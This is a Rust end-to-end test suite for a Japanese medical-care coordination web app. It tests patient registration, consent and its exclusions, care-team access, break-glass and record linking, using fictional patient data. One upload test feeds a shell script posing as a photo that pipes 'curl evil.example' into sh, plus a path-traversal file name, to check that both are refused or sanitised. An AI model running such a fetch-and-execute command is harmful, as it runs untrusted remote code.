//! Patients end to end over HTTP: registration, care team by invitation, consent and its
//! withdrawal, break-glass, and a matrix of who may open which patient page.

mod testkit;

use renkei_storage::AuditQuery;
use testkit::{csrf, each_backend, TestApp};

async fn status(app: &TestApp, client: &reqwest::Client, path: &str) -> u16 {
    client
        .get(app.url(path))
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

fn registration(csrf: &str, local_id: &str) -> Vec<(&'static str, String)> {
    vec![
        ("csrf", csrf.into()),
        ("local_id", local_id.into()),
        ("family_kanji", "苫小牧".into()),
        ("given_kanji", "花子".into()),
        ("family_kana", "とまこまい".into()),
        ("given_kana", "はなこ".into()),
        ("birth_date", "1938-04-12".into()),
        ("sex", "female".into()),
        ("postal_code", "053-0022".into()),
        ("address", "北海道苫小牧市表町1丁目2-3".into()),
        ("phone", "0144-32-1111".into()),
        ("care_level", "care2".into()),
    ]
}

#[tokio::test]
async fn register_invite_consent_withdraw_and_break_glass() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let token = csrf(&app, &doctor).await;

        // Bad input: every problem at once, nothing stored.
        let mut bad = registration(&token, "P-0001");
        bad[4] = ("family_kana", "苫小牧".into());
        bad[6] = ("birth_date", "2999-01-01".into());
        bad[7] = ("sex", "robot".into());
        let res = doctor
            .post(app.url("/patients/new"))
            .form(&bad)
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 422);
        let text = res.text().await.unwrap();
        assert!(
            text.contains("カタカナまたはひらがな")
                && text.contains("ありえない日付")
                && text.contains("選択肢から"),
            "{text}"
        );

        let res = doctor
            .post(app.url("/patients/new"))
            .form(&registration(&token, "P-0001"))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let location = res.headers()["location"].to_str().unwrap().to_string();
        let person = location
            .trim_start_matches("/patients/")
            .split('?')
            .next()
            .unwrap()
            .to_string();
        let page = doctor
            .get(app.url(&format!("/patients/{person}")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            page.contains("苫小牧 花子") && page.contains("トマコマイ"),
            "{page}"
        );
        // The same local ID again is refused.
        let again = doctor
            .post(app.url("/patients/new"))
            .form(&registration(&token, "P-0001"))
            .send()
            .await
            .unwrap();
        assert_eq!(again.status(), 422);

        // Outsiders see nothing — not the page, not the list, not the summary.
        let (other, _) = app.sign_in("otherdoc").await;
        let (cm, _) = app.sign_in("cm1").await;
        for client in [&other, &cm] {
            assert_eq!(
                status(&app, client, &format!("/patients/{person}")).await,
                404
            );
            assert_eq!(
                status(&app, client, &format!("/patients/{person}/emergency")).await,
                404
            );
            let list = client
                .get(app.url("/patients?q=%E3%81%A8%E3%81%BE%E3%81%93%E3%81%BE%E3%81%84"))
                .send()
                .await
                .unwrap()
                .text()
                .await
                .unwrap();
            assert!(!list.contains("苫小牧 花子"));
        }
        // A made-up ID answers exactly like a hidden patient.
        assert_eq!(
            status(&app, &other, "/patients/00000000000000000000000000000000").await,
            404
        );

        // Consent, then an invitation the care manager accepts.
        let res = doctor
            .post(app.url(&format!("/patients/{person}/consent")))
            .form(&[
                ("csrf", token.as_str()),
                ("scope", "comprehensive"),
                ("excluded", "psychiatric"),
                ("form", "written"),
                ("signer", "proxy"),
                ("proxy_name", "苫小牧 一郎"),
                ("proxy_relationship", "長男"),
                ("family_participation", "yes"),
                ("card_number", "C-123"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let second = doctor
            .post(app.url(&format!("/patients/{person}/consent")))
            .form(&[
                ("csrf", token.as_str()),
                ("scope", "comprehensive"),
                ("form", "written"),
                ("signer", "patient"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(second.status(), 422, "a second active consent is refused");
        let res = doctor
            .post(app.url(&format!("/patients/{person}/team/invite")))
            .form(&[
                ("csrf", token.as_str()),
                ("facility", "F00005"),
                ("note", "退院調整のため"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        // Inviting a suspended or unknown facility is refused.
        let res = doctor
            .post(app.url(&format!("/patients/{person}/team/invite")))
            .form(&[("csrf", token.as_str()), ("facility", "F99999")])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 400);
        // Invited is not yet a member.
        assert_eq!(status(&app, &cm, &format!("/patients/{person}")).await, 404);
        let invitations = cm
            .get(app.url("/invitations"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(invitations.contains("苫小牧 花子") && invitations.contains("退院調整のため"));
        let cm_token = csrf(&app, &cm).await;
        let res = cm
            .post(app.url(&format!("/invitations/{person}")))
            .form(&[("csrf", cm_token.as_str()), ("answer", "accept")])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let page = cm
            .get(app.url(&format!("/patients/{person}")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(page.contains("苫小牧 花子"));
        assert_eq!(
            status(&app, &other, &format!("/patients/{person}")).await,
            404,
            "still an outsider"
        );

        // Clinical data written through FHIR by the registering hospital: an allergy, a
        // current prescription, a diagnosis and a psychiatric diagnosis (ICD-10 chapter F),
        // which the consent excludes from sharing.
        for resource in clinical_resources(&person) {
            let res = doctor
                .post(app.url(&format!(
                    "/fhir/{}",
                    resource["resourceType"].as_str().unwrap()
                )))
                .header("content-type", "application/fhir+json")
                .body(resource.to_string())
                .send()
                .await
                .unwrap();
            assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
        }
        // The hospital sees its own records, the psychiatric one included.
        let own = doctor
            .get(app.url(&format!("/patients/{person}/emergency")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        for shown in [
            "ヨード造影剤",
            "ノルバスク錠5mg",
            "1回1錠 1日1回 朝食後",
            "高血圧症",
            "うつ病",
        ] {
            assert!(own.contains(shown), "{shown} missing:\n{own}");
        }
        // The care manager's facility (team member under the consent) sees the allergy, the
        // medication and the diagnosis with the hospital named, but not what is excluded.
        let shared = cm
            .get(app.url(&format!("/patients/{person}/emergency")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        for shown in [
            "ヨード造影剤",
            "ノルバスク錠5mg",
            "高血圧症",
            "class=\"source\">テスト総合病院",
        ] {
            assert!(shared.contains(shown), "{shown} missing:\n{shared}");
        }
        assert!(
            !shared.contains("うつ病") && !shared.contains("F32.9"),
            "an excluded category leaks: {shared}"
        );

        // Break-glass by an ambulance crew: reason required, then the summary; the team is told.
        let (crew, _) = app.sign_in("paramedic1").await;
        let crew_token = csrf(&app, &crew).await;
        let no_reason = crew
            .post(app.url("/emergency"))
            .form(&[
                ("csrf", crew_token.as_str()),
                ("kana", "トマコマイ ハナコ"),
                ("birth_date", "1938-04-12"),
                ("reason", ""),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(no_reason.status(), 422);
        let wrong = crew
            .post(app.url("/emergency"))
            .form(&[
                ("csrf", crew_token.as_str()),
                ("kana", "トマコマイ ハナコ"),
                ("birth_date", "1938-04-13"),
                ("reason", "救急搬送中、意識レベル低下"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(wrong.status(), 422);
        let res = crew
            .post(app.url("/emergency"))
            .form(&[
                ("csrf", crew_token.as_str()),
                ("kana", "とまこまい はなこ"),
                ("birth_date", "1938-04-12"),
                ("reason", "救急搬送中、意識レベル低下"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let summary = crew
            .get(app.url(&format!("/patients/{person}/emergency")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            summary.contains("苫小牧 花子") && summary.contains("ブレークグラス"),
            "{summary}"
        );
        assert!(
            summary.contains("精神科に関する情報"),
            "excluded categories are shown"
        );
        // Break-glass opens allergies, medications and diagnoses — the consent's exclusions
        // still apply.
        for shown in ["ヨード造影剤", "呼吸困難", "ノルバスク錠5mg", "高血圧症"]
        {
            assert!(summary.contains(shown), "{shown} missing:\n{summary}");
        }
        assert!(
            !summary.contains("うつ病") && !summary.contains("F32.9"),
            "break-glass shows an excluded category: {summary}"
        );
        let notices = doctor
            .get(app.url("/patients"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            notices.contains("救急搬送中、意識レベル低下"),
            "the team sees the notice"
        );
        let (sec, _) = app.sign_in("secretariat").await;
        let log = sec
            .get(app.url("/admin/break-glass"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(log.contains("救急搬送中、意識レベル低下") && log.contains("paramedic1"));
        // A care manager cannot break the glass.
        assert_eq!(status(&app, &cm, "/emergency").await, 403);

        // Withdrawal: effective immediately on every path, except a facility's own data.
        let consent_page = doctor
            .get(app.url(&format!("/patients/{person}/consent")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        let consent_id = testkit::between(
            &consent_page,
            &format!("/patients/{person}/consent/"),
            "/form",
        )
        .unwrap();
        let res = doctor
            .post(app.url(&format!("/patients/{person}/consent/{consent_id}/withdraw")))
            .form(&[("csrf", token.as_str()), ("reason", "本人の申し出")])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        assert_eq!(status(&app, &cm, &format!("/patients/{person}")).await, 404);
        assert_eq!(
            status(&app, &cm, &format!("/patients/{person}/emergency")).await,
            404
        );
        assert_eq!(
            status(&app, &crew, &format!("/patients/{person}/emergency")).await,
            404,
            "withdrawal ends break-glass too"
        );
        let list = cm
            .get(app.url("/patients"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(!list.contains("苫小牧 花子"), "nor in lists");
        assert_eq!(
            status(&app, &doctor, &format!("/patients/{person}")).await,
            200,
            "own registration stays visible"
        );

        // Every decision was audited with the patient named; denials as denied.
        let reads = app
            .store
            .search_audit(&AuditQuery {
                patient_id: Some(person.clone()),
                action_prefix: Some("patient.read".into()),
                limit: 1000,
                ..Default::default()
            })
            .await
            .unwrap();
        assert!(reads
            .iter()
            .any(|r| r.entry.outcome == "denied"
                && r.entry.actor_login.as_deref() == Some("otherdoc")));
        assert!(reads
            .iter()
            .any(|r| r.entry.outcome == "success" && r.entry.detail.contains("break_glass")));
        let bg = app
            .store
            .search_audit(&AuditQuery {
                patient_id: Some(person.clone()),
                action_prefix: Some("break_glass.open".into()),
                limit: 10,
                ..Default::default()
            })
            .await
            .unwrap();
        assert_eq!(bg.len(), 1);
    })
    .await;
}

#[tokio::test]
async fn the_same_person_at_two_facilities_links_through_the_index() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let token = csrf(&app, &doctor).await;
        let res = doctor
            .post(app.url("/patients/new"))
            .form(&registration(&token, "A-1"))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let first = res.headers()["location"]
            .to_str()
            .unwrap()
            .trim_start_matches("/patients/")
            .split('?')
            .next()
            .unwrap()
            .to_string();
        // The care office registers her with half-width kana and a differently written phone.
        let (cm, _) = app.sign_in("cm1").await;
        let cm_token = csrf(&app, &cm).await;
        let mut variant = registration(&cm_token, "K-77");
        variant[4] = ("family_kana", "ﾄﾏｺﾏｲ".into());
        variant[10] = ("phone", "0144321111".into());
        let res = cm
            .post(app.url("/patients/new"))
            .form(&variant)
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let location = res.headers()["location"].to_str().unwrap().to_string();
        assert!(
            location.contains(&first),
            "linked to the same person: {location}"
        );
        assert!(location.contains("notice.patient_linked"));
        // Linking does not open the other facility's registration without consent.
        let page = cm
            .get(app.url(&format!("/patients/{first}")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(page.contains("K-77"));
        assert!(
            !page.contains("A-1"),
            "the hospital's registration is not shared without consent"
        );
        // Both facilities are in the team by registering; without consent each sees only its own.
        let page = doctor
            .get(app.url(&format!("/patients/{first}")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(page.contains("A-1") && !page.contains("K-77"), "{page}");
        // With consent, the hospital's page lists both registrations with their sources.
        let res = doctor
            .post(app.url(&format!("/patients/{first}/consent")))
            .form(&[
                ("csrf", token.as_str()),
                ("scope", "comprehensive"),
                ("form", "verbal"),
                ("signer", "patient"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let page = doctor
            .get(app.url(&format!("/patients/{first}")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            page.contains("A-1")
                && page.contains("K-77")
                && page.contains("テスト居宅介護支援事業所"),
            "{page}"
        );
        // The secretariat undoes the link: the care office's registration becomes its own person.
        let (sec, _) = app.sign_in("secretariat").await;
        let queue = sec.get(app.url("/admin/mpi")).send().await.unwrap();
        assert_eq!(queue.status(), 200, "the review queue renders");
        assert_eq!(status(&app, &doctor, "/admin/mpi").await, 403);
        let page = sec
            .get(app.url(&format!("/patients/{first}")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            page.contains("link-history") && page.contains("auto_link"),
            "{page}"
        );
        let forms: Vec<&str> = page
            .match_indices("/admin/mpi/unlink/")
            .map(|(i, _)| &page[i + 18..i + 50])
            .collect();
        assert_eq!(forms.len(), 2, "one unlink button per registration");
        let sec_token = testkit::csrf_of(&page);
        let res = sec
            .post(app.url(&format!("/admin/mpi/unlink/{}", forms[1])))
            .form(&[("csrf", sec_token.as_str())])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let page = doctor
            .get(app.url(&format!("/patients/{first}")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(page.contains("A-1") && !page.contains("K-77"), "{page}");
        let unlinks = app
            .store
            .search_audit(&AuditQuery {
                action_prefix: Some("mpi.unlink".into()),
                limit: 5,
                ..Default::default()
            })
            .await
            .unwrap();
        assert_eq!(unlinks.len(), 1);
    })
    .await;
}

#[tokio::test]
async fn signed_consent_form_is_checked_by_content() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let token = csrf(&app, &doctor).await;
        let res = doctor
            .post(app.url("/patients/new"))
            .form(&registration(&token, "F-1"))
            .send()
            .await
            .unwrap();
        let person = res.headers()["location"]
            .to_str()
            .unwrap()
            .trim_start_matches("/patients/")
            .split('?')
            .next()
            .unwrap()
            .to_string();
        let res = doctor
            .post(app.url(&format!("/patients/{person}/consent")))
            .form(&[
                ("csrf", token.as_str()),
                ("scope", "comprehensive"),
                ("form", "written"),
                ("signer", "patient"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let page = doctor
            .get(app.url(&format!("/patients/{person}/consent")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        let consent_id =
            testkit::between(&page, &format!("/patients/{person}/consent/"), "/form").unwrap();
        let url = app.url(&format!("/patients/{person}/consent/{consent_id}/form"));
        let upload = |bytes: Vec<u8>, name: &'static str| {
            let form = reqwest::multipart::Form::new()
                .text("csrf", token.clone())
                .part(
                    "file",
                    reqwest::multipart::Part::bytes(bytes)
                        .file_name(name)
                        .mime_str("image/jpeg")
                        .unwrap(),
                );
            doctor.post(url.clone()).multipart(form).send()
        };
        // A script dressed up as a photo is refused; nothing stored.
        let res = upload(
            b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(),
            "同意書.jpg",
        )
        .await
        .unwrap();
        assert_eq!(res.status(), 400);
        assert_eq!(doctor.get(url.clone()).send().await.unwrap().status(), 404);
        // Oversized.
        let mut big = b"%PDF-1.7\n".to_vec();
        big.resize(6 * 1024 * 1024, b'0');
        let res = upload(big, "big.pdf").await.unwrap();
        assert!(
            res.status() == 400 || res.status() == 413,
            "{}",
            res.status()
        );
        // A real PDF, renamed oddly, is stored under a safe name and comes back byte for byte.
        let pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n".to_vec();
        let res = upload(pdf.clone(), "../../同意書\".jpg").await.unwrap();
        assert_eq!(res.status(), 303);
        let got = doctor.get(url.clone()).send().await.unwrap();
        assert_eq!(got.headers()["content-type"], "application/pdf");
        assert!(got.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .contains(".pdf"));
        assert_eq!(got.bytes().await.unwrap().to_vec(), pdf);
        // Outsiders cannot fetch it.
        let (other, _) = app.sign_in("otherdoc").await;
        assert_eq!(other.get(url.clone()).send().await.unwrap().status(), 404);
        let audit = app
            .store
            .search_audit(&AuditQuery {
                action_prefix: Some("consent.form_upload".into()),
                patient_id: Some(person.clone()),
                limit: 5,
                ..Default::default()
            })
            .await
            .unwrap();
        assert_eq!(audit.len(), 1);
    })
    .await;
}

/// An allergy, a current prescription and two diagnoses (one psychiatric) about `person`.
fn clinical_resources(person: &str) -> Vec<serde_json::Value> {
    let subject = serde_json::json!({ "reference": format!("Patient/{person}") });
    let icd10 = "http://jpfhir.jp/fhir/core/mhlw/CodeSystem/ICD10-2013-full";
    let condition = |code: &str, name: &str| {
        serde_json::json!({
            "resourceType": "Condition",
            "clinicalStatus": { "coding": [{ "system": "http://terminology.hl7.org/CodeSystem/condition-clinical", "code": "active" }] },
            "verificationStatus": { "coding": [{ "system": "http://terminology.hl7.org/CodeSystem/condition-ver-status", "code": "confirmed" }] },
            "code": { "coding": [{ "system": icd10, "code": code, "display": name }], "text": name },
            "subject": subject,
            "onsetDateTime": "2019-04",
        })
    };
    vec![
        serde_json::json!({
            "resourceType": "AllergyIntolerance",
            "clinicalStatus": { "coding": [{ "system": "http://terminology.hl7.org/CodeSystem/allergyintolerance-clinical", "code": "active" }] },
            "type": "allergy",
            "category": ["medication"],
            "criticality": "high",
            "code": { "text": "ヨード造影剤" },
            "patient": subject,
            "recordedDate": "2026-10-01",
            "reaction": [{ "manifestation": [{ "text": "呼吸困難" }], "severity": "severe" }],
        }),
        serde_json::json!({
            "resourceType": "MedicationRequest",
            "status": "active",
            "intent": "order",
            "medicationCodeableConcept": {
                "coding": [{ "system": "http://capstandard.jp/iyaku.info/CodeSystem/YJ-code", "code": "2171022F2025", "display": "ノルバスク錠5mg" }],
                "text": "ノルバスク錠5mg"
            },
            "subject": subject,
            "authoredOn": "2026-11-02T10:00:00+09:00",
            "dosageInstruction": [{ "text": "1回1錠 1日1回 朝食後" }],
            "dispenseRequest": { "expectedSupplyDuration": { "value": 28, "unit": "日", "system": "http://unitsofmeasure.org", "code": "d" } },
        }),
        condition("I10", "高血圧症"),
        condition("F32.9", "うつ病"),
    ]
}

/// The secretariat configures which information categories a consent may exclude; the
/// consent form follows the list, and an excluded category (here imaging) stays with the
/// facility that wrote it while other categories are shared.
#[tokio::test]
async fn secretariat_configures_the_excludable_categories() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let token = csrf(&app, &doctor).await;

        // Only the secretariat opens or changes the setting.
        assert_eq!(status(&app, &doctor, "/admin/consent-categories").await, 403);
        let res = doctor
            .post(app.url("/admin/consent-categories"))
            .form(&[("csrf", token.as_str()), ("categories", "imaging")])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 403);

        let (sec, _) = app.sign_in("secretariat").await;
        let sec_token = csrf(&app, &sec).await;
        let page = sec
            .get(app.url("/admin/consent-categories"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            page.contains("value=\"imaging\"")
                && !page.contains("value=\"demographics\"")
                && !page.contains("value=\"emergency\""),
            "{page}"
        );
        // At least one category must remain.
        let res = sec
            .post(app.url("/admin/consent-categories"))
            .form(&[("csrf", sec_token.as_str())])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 400);
        assert!(res.text().await.unwrap().contains("少なくとも1つ"));
        // The emergency summary cannot be made excludable.
        let res = sec
            .post(app.url("/admin/consent-categories"))
            .form(&[("csrf", sec_token.as_str()), ("categories", "emergency")])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 400);
        // Enable imaging, disable reproductive.
        let res = sec
            .post(app.url("/admin/consent-categories"))
            .form(&[
                ("csrf", sec_token.as_str()),
                ("categories", "psychiatric"),
                ("categories", "infectious_disease"),
                ("categories", "genetic"),
                ("categories", "imaging"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        assert_eq!(
            res.headers()["location"],
            "/admin/consent-categories?msg=notice.consent_categories_saved"
        );
        let audit = app
            .store
            .search_audit(&AuditQuery {
                action_prefix: Some("settings.consent_categories".into()),
                limit: 10,
                ..Default::default()
            })
            .await
            .unwrap();
        assert_eq!(audit.len(), 1, "{audit:?}");
        let detail: serde_json::Value = serde_json::from_str(&audit[0].entry.detail).unwrap();
        assert_eq!(
            detail["before"],
            serde_json::json!(["psychiatric", "infectious_disease", "genetic", "reproductive"])
        );
        assert_eq!(
            detail["after"],
            serde_json::json!(["imaging", "psychiatric", "infectious_disease", "genetic"])
        );
        assert_eq!(audit[0].entry.actor_login.as_deref(), Some("secretariat"));

        // The consent form follows the list.
        let res = doctor
            .post(app.url("/patients/new"))
            .form(&registration(&token, "C-0001"))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let person = res.headers()["location"]
            .to_str()
            .unwrap()
            .trim_start_matches("/patients/")
            .split('?')
            .next()
            .unwrap()
            .to_string();
        let form = doctor
            .get(app.url(&format!("/patients/{person}/consent")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            form.contains("画像")
                && form.contains("value=\"imaging\"")
                && !form.contains("value=\"reproductive\"")
                && !form.contains("生殖・妊娠に関する情報"),
            "{form}"
        );
        let consent = |excluded: &'static str| {
            doctor
                .post(app.url(&format!("/patients/{person}/consent")))
                .form(&[
                    ("csrf", token.as_str()),
                    ("scope", "comprehensive"),
                    ("excluded", excluded),
                    ("form", "written"),
                    ("signer", "patient"),
                ])
                .send()
        };
        let res = consent("reproductive").await.unwrap();
        assert_eq!(res.status(), 422);
        assert!(res.text().await.unwrap().contains("選択肢から"));
        assert!(app.store.current_consent(&person).await.unwrap().is_none());
        let res = consent("imaging").await.unwrap();
        assert_eq!(res.status(), 303);
        let recorded = app.store.current_consent(&person).await.unwrap().unwrap();
        assert_eq!(
            recorded.excluded,
            vec![renkei_domain::patient::InfoCategory::Imaging]
        );

        // The hospital writes an imaging study and a hypertension diagnosis; the care
        // manager's office, in the team by registering the same person, sees only the latter.
        let subject = serde_json::json!({"reference": format!("Patient/{person}")});
        let fhir_post = |path: &str, body: serde_json::Value| {
            doctor
                .post(app.url(path))
                .header("content-type", "application/fhir+json")
                .body(body.to_string())
                .send()
        };
        let res = fhir_post(
            "/fhir/ImagingStudy",
            serde_json::json!({"resourceType": "ImagingStudy", "status": "available", "subject": subject}),
        )
        .await
        .unwrap();
        assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());
        let res = fhir_post(
            "/fhir/Condition",
            serde_json::json!({"resourceType": "Condition",
                "clinicalStatus": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/condition-clinical", "code": "active"}]},
                "code": {"coding": [{"system": "http://jpfhir.jp/fhir/core/mhlw/CodeSystem/ICD10-2013-full", "code": "I10", "display": "本態性高血圧症"}]},
                "subject": subject}),
        )
        .await
        .unwrap();
        assert_eq!(res.status(), 201, "{}", res.text().await.unwrap());

        let (cm, _) = app.sign_in("cm1").await;
        let cm_token = csrf(&app, &cm).await;
        let res = cm
            .post(app.url("/patients/new"))
            .form(&registration(&cm_token, "K-0001"))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        let search = |client: &reqwest::Client, kind: &str| {
            client
                .get(app.url(&format!("/fhir/{kind}?patient={person}")))
                .send()
        };
        let bundle = |res: reqwest::Response| async move {
            assert_eq!(res.status(), 200);
            res.json::<serde_json::Value>().await.unwrap()["total"]
                .as_i64()
                .unwrap()
        };
        assert_eq!(bundle(search(&cm, "ImagingStudy").await.unwrap()).await, 0);
        assert_eq!(bundle(search(&cm, "Condition").await.unwrap()).await, 1);
        assert_eq!(bundle(search(&doctor, "ImagingStudy").await.unwrap()).await, 1);

        // Removing imaging from the list later does not reopen the recorded exclusion,
        // and the consent history still shows it.
        let res = sec
            .post(app.url("/admin/consent-categories"))
            .form(&[("csrf", sec_token.as_str()), ("categories", "psychiatric")])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303);
        assert_eq!(bundle(search(&cm, "ImagingStudy").await.unwrap()).await, 0);
        let history = doctor
            .get(app.url(&format!("/patients/{person}/consent")))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            history.contains("画像") && !history.contains("value=\"imaging\""),
            "{history}"
        );
    })
    .await;
}
